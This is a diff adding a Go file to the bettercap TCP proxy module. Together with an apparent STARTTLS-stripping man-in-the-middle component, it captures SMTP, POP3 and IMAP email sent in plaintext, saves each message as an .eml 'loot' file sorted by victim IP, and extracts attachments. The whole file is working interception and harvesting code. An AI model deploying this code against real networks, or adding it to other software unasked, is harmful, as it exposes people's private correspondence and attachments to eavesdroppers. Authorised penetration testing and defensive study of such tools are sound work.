@@ -0,0 +1,352 @@
+package tcp_proxy
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/base64"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"mime"
+	"mime/multipart"
+	"mime/quotedprintable"
+	"net"
+	"net/mail"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/bettercap/bettercap/loot"
+
+	"github.com/evilsocket/islazy/fs"
+	"github.com/evilsocket/islazy/tui"
+)
+
+var (
+	imapFetchLiteral = regexp.MustCompile(`(?i)^\* \d+ FETCH .*(BODY(\.PEEK)?\[\]|RFC822)\s*\{(\d+)\}$`)
+	unsafeFileChars  = regexp.MustCompile(`[^a-zA-Z0-9._-]+`)
+)
+
+// MailEvent is pushed every time a message transferred in plaintext is saved.
+type MailEvent struct {
+	Protocol    string   `json:"protocol"`
+	Client      string   `json:"client"`
+	Server      string   `json:"server"`
+	From        string   `json:"from"`
+	To          string   `json:"to"`
+	Subject     string   `json:"subject"`
+	Size        int      `json:"size"`
+	Truncated   bool     `json:"truncated"`
+	File        string   `json:"file"`
+	Attachments []string `json:"attachments"`
+}
+
+// mailCapture holds the tcp.proxy.mail.* parameters.
+type mailCapture struct {
+	path      string
+	maxSize   int
+	types     []string
+	attachMax int
+}
+
+// mailTransfer is a message being sent by the client (SMTP DATA) or by the
+// server (POP3 RETR or an IMAP FETCH literal).
+type mailTransfer struct {
+	fromClient bool
+	// bytes left of an IMAP literal, 0 for dot terminated messages
+	literal   int
+	buf       *bytes.Buffer
+	truncated bool
+}
+
+func (mod *TcpProxy) configureMail() error {
+	var err error
+	var enabled bool
+	var types []string
+
+	mod.mail = nil
+	if err, enabled = mod.BoolParam("tcp.proxy.mail.capture"); err != nil || !enabled {
+		return err
+	}
+
+	mc := &mailCapture{}
+	if err, mc.path = mod.StringParam("tcp.proxy.mail.path"); err != nil {
+		return err
+	} else if mc.path, err = fs.Expand(mc.path); err != nil {
+		return err
+	} else if err, mc.maxSize = mod.IntParam("tcp.proxy.mail.max.size"); err != nil {
+		return err
+	} else if err, types = mod.ListParam("tcp.proxy.mail.attachments.types"); err != nil {
+		return err
+	} else if err, mc.attachMax = mod.IntParam("tcp.proxy.mail.attachments.max.size"); err != nil {
+		return err
+	} else if err = os.MkdirAll(mc.path, os.ModePerm); err != nil {
+		return err
+	}
+
+	for _, t := range types {
+		if t = strings.ToLower(strings.TrimSpace(t)); t != "" {
+			mc.types = append(mc.types, t)
+		}
+	}
+
+	mod.mail = mc
+	mod.Info("saving plaintext mail messages to %s", mc.path)
+	return nil
+}
+
+func (mc *mailCapture) matchType(ctype string) bool {
+	if len(mc.types) == 0 {
+		return true
+	}
+	for _, t := range mc.types {
+		if ctype == t || (strings.HasSuffix(t, "/") && strings.HasPrefix(ctype, t)) {
+			return true
+		}
+	}
+	return false
+}
+
+func (s *starttlsStripper) startTransfer(fromClient bool, literal int) {
+	s.transfer = &mailTransfer{
+		fromClient: fromClient,
+		literal:    literal,
+	}
+	if s.mod.mail != nil {
+		s.transfer.buf = &bytes.Buffer{}
+	}
+}
+
+func (t *mailTransfer) write(data string, maxSize int) {
+	if t.buf == nil || t.truncated {
+		return
+	} else if left := maxSize - t.buf.Len(); len(data) > left {
+		t.buf.WriteString(data[:left])
+		t.truncated = true
+	} else {
+		t.buf.WriteString(data)
+	}
+}
+
+// transferLine handles a line of the message being transferred, returning
+// true if it was part of it.
+func (s *starttlsStripper) transferLine(line string, fromClient bool) bool {
+	t := s.transfer
+	if t == nil || t.fromClient != fromClient {
+		return false
+	}
+
+	maxSize := 0
+	if s.mod.mail != nil {
+		maxSize = s.mod.mail.maxSize
+	}
+
+	if t.literal > 0 {
+		if len(line) >= t.literal {
+			t.write(line[:t.literal], maxSize)
+			t.literal = 0
+			s.endTransfer()
+		} else {
+			t.write(line, maxSize)
+			t.literal -= len(line)
+		}
+		return true
+	}
+
+	if trimmed := strings.TrimRight(line, "\r\n"); trimmed == "." {
+		s.endTransfer()
+	} else {
+		// dot-stuffing
+		t.write(strings.TrimPrefix(line, "."), maxSize)
+	}
+	return true
+}
+
+// mailFromServer keeps track of the messages sent by the server, returning
+// true if the line is part of one and has to be forwarded as it is.
+func (s *starttlsStripper) mailFromServer(line string) bool {
+	if s.transferLine(line, false) {
+		return true
+	}
+
+	trimmed := strings.TrimRight(line, "\r\n")
+	switch s.proto {
+	case "smtp":
+		if s.smtpData {
+			s.smtpData = false
+			if strings.HasPrefix(trimmed, "354") {
+				s.startTransfer(true, 0)
+			}
+		}
+	case "pop3":
+		if s.pop3Retr {
+			s.pop3Retr = false
+			if strings.HasPrefix(trimmed, "+OK") {
+				s.startTransfer(false, 0)
+				return true
+			}
+		}
+	case "imap":
+		if m := imapFetchLiteral.FindStringSubmatch(trimmed); m != nil {
+			if size, err := strconv.Atoi(m[3]); err == nil && size > 0 {
+				s.startTransfer(false, size)
+				return true
+			}
+		}
+	}
+
+	return false
+}
+
+func (s *starttlsStripper) endTransfer() {
+	t := s.transfer
+	s.transfer = nil
+	if t.buf == nil || t.buf.Len() == 0 {
+		return
+	}
+
+	if err, event := s.mod.saveMail(s, t); err != nil {
+		s.mod.Error("error saving %s message from %s: %s", strings.ToUpper(s.proto), s.client, err)
+	} else {
+		s.mod.Info("saved %s message from %s (%s) to %s", strings.ToUpper(s.proto), tui.Bold(event.From), event.Subject, event.File)
+		s.mod.Session.Events.Add("tcp.proxy.mail", *event)
+	}
+}
+
+func addrIP(addr net.Addr) string {
+	if tcp, ok := addr.(*net.TCPAddr); ok {
+		return tcp.IP.String()
+	}
+	return addr.String()
+}
+
+func (mod *TcpProxy) saveMail(s *starttlsStripper, t *mailTransfer) (error, *MailEvent) {
+	raw := t.buf.Bytes()
+	hash := sha256.Sum256(raw)
+	dir := filepath.Join(mod.mail.path, strings.Replace(addrIP(s.client), ":", "_", -1))
+	base := fmt.Sprintf("%s-%s-%x", time.Now().Format("20060102-150405"), s.proto, hash[:6])
+
+	event := &MailEvent{
+		Protocol:    s.proto,
+		Client:      s.client.String(),
+		Server:      s.server.String(),
+		Size:        len(raw),
+		Truncated:   t.truncated,
+		File:        filepath.Join(dir, base+".eml"),
+		Attachments: make([]string, 0),
+	}
+
+	if err := os.MkdirAll(dir, os.ModePerm); err != nil {
+		return err, nil
+	} else if event.File, err = loot.WriteFile(event.File, raw, 0644); err != nil {
+		return err, nil
+	}
+
+	msg, err := mail.ReadMessage(bytes.NewReader(raw))
+	if err != nil {
+		// save what we have even if it doesn't parse (truncated, etc)
+		mod.Debug("could not parse message %s: %s", event.File, err)
+		return nil, event
+	}
+
+	dec := mime.WordDecoder{}
+	for _, h := range []struct {
+		name string
+		dst  *string
+	}{{"From", &event.From}, {"To", &event.To}, {"Subject", &event.Subject}} {
+		if *h.dst, err = dec.DecodeHeader(msg.Header.Get(h.name)); err != nil {
+			*h.dst = msg.Header.Get(h.name)
+		}
+	}
+
+	parts := make([]*mailPart, 0)
+	walkParts(msg.Header.Get("Content-Type"), msg.Header.Get("Content-Transfer-Encoding"), msg.Body, "", &parts, 0)
+	for i, part := range parts {
+		if !mod.mail.matchType(part.ctype) || len(part.data) > mod.mail.attachMax {
+			continue
+		}
+
+		name := unsafeFileChars.ReplaceAllString(part.name, "_")
+		fileName := filepath.Join(dir, fmt.Sprintf("%s-%d-%s", base, i, name))
+		if fileName, err := loot.WriteFile(fileName, part.data, 0644); err != nil {
+			mod.Warning("error saving attachment %s: %s", part.name, err)
+		} else {
+			event.Attachments = append(event.Attachments, fileName)
+		}
+	}
+
+	return nil, event
+}
+
+type mailPart struct {
+	name  string
+	ctype string
+	data  []byte
+}
+
+func decodePart(encoding string, body io.Reader) ([]byte, error) {
+	switch strings.ToLower(strings.TrimSpace(encoding)) {
+	case "base64":
+		return ioutil.ReadAll(base64.NewDecoder(base64.StdEncoding, &newlineStripper{r: body}))
+	case "quoted-printable":
+		return ioutil.ReadAll(quotedprintable.NewReader(body))
+	default:
+		return ioutil.ReadAll(body)
+	}
+}
+
+// walkParts collects the attachments of a (possibly nested) multipart body.
+func walkParts(contentType, encoding string, body io.Reader, disposition string, parts *[]*mailPart, depth int) {
+	ctype, params, err := mime.ParseMediaType(contentType)
+	if err != nil {
+		ctype = "text/plain"
+	}
+
+	if strings.HasPrefix(ctype, "multipart/") && params["boundary"] != "" && depth < 8 {
+		reader := multipart.NewReader(body, params["boundary"])
+		for {
+			part, err := reader.NextPart()
+			if err != nil {
+				return
+			}
+			walkParts(part.Header.Get("Content-Type"), part.Header.Get("Content-Transfer-Encoding"), part, part.Header.Get("Content-Disposition"), parts, depth+1)
+		}
+	}
+
+	name := params["name"]
+	if disp, dparams, err := mime.ParseMediaType(disposition); err == nil {
+		if dparams["filename"] != "" {
+			name = dparams["filename"]
+		} else if disp != "attachment" {
+			name = ""
+		}
+	}
+	if name == "" {
+		// message bodies are in the .eml already
+		return
+	}
+
+	if data, err := decodePart(encoding, body); err == nil {
+		*parts = append(*parts, &mailPart{name: name, ctype: ctype, data: data})
+	}
+}
+
+// newlineStripper drops the line breaks of base64 encoded parts.
+type newlineStripper struct {
+	r io.Reader
+}
+
+func (n *newlineStripper) Read(p []byte) (int, error) {
+	read, err := n.r.Read(p)
+	kept := 0
+	for _, c := range p[:read] {
+		if c != '\r' && c != '\n' {
+			p[kept] = c
+			kept++
+		}
+	}
+	return kept, err
+}